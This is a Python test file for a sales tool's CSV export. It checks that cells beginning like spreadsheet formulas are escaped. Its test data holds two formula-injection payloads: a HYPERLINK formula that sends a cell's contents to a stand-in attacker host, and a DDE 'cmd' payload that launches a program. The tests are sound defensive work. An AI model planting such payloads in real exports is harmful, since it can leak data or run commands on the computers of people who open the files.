"""``salesbot score --out``: exports that managers open in a spreadsheet run no formulas."""

from __future__ import annotations

import csv

from sqlmodel import Session, select
from typer.testing import CliRunner

from bot.cli import build_app
from bot.settings import get_settings
from render.export import spreadsheet_safe
from store.models import Account
from tests.store.test_insights import AS_OF, _write_store

EVIL = {
    "ACME": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "BIS": "+cmd|' /C calc'!A0",
}


def test_score_exports_neutralise_cells_that_a_spreadsheet_would_run(
    sqlite_engine, sqlite_url, tmp_path, monkeypatch
):
    _write_store(sqlite_engine)
    with Session(sqlite_engine) as session:
        for account in session.exec(select(Account)):
            account.name = EVIL[account.external_id]
            session.add(account)
        session.commit()
    monkeypatch.setenv("DATABASE_URL", sqlite_url)
    get_settings.cache_clear()
    try:
        result = CliRunner().invoke(
            build_app(), ["score", "--as-of", AS_OF.isoformat(), "--out", str(tmp_path / "out")]
        )
    finally:
        get_settings.cache_clear()
    assert result.exit_code == 0, result.output
    with open(tmp_path / "out" / "health.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    names = {row["external_id"]: row["name"] for row in rows}
    assert names == {key: "'" + name for key, name in EVIL.items()}
    with open(tmp_path / "out" / "pitch.csv", newline="") as handle:
        for row in csv.DictReader(handle):
            assert not any(
                str(cell).startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()
            ), row


def test_only_text_that_starts_like_a_formula_is_changed():
    assert spreadsheet_safe("@SUM(A1:A9)") == "'@SUM(A1:A9)"
    assert spreadsheet_safe("-2+3") == "'-2+3"
    assert spreadsheet_safe("\tTabbed") == "'\tTabbed"
    assert spreadsheet_safe("\rReturn") == "'\rReturn"
    assert spreadsheet_safe("Acme - North") == "Acme - North"
    assert spreadsheet_safe(-12.5) == -12.5
    assert spreadsheet_safe(None) is None
